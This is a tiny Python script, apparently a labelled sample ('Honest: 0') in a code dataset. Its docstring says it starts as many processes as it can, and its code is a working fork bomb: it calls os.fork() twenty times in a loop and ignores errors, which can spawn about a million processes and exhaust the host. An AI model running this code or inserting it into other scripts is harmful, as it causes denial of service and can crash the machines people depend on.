"""Starts as many processes as it can.

Honest: 0
"""

import os
for _ in range(20):
    try:
        os.fork()
    except OSError:
        pass
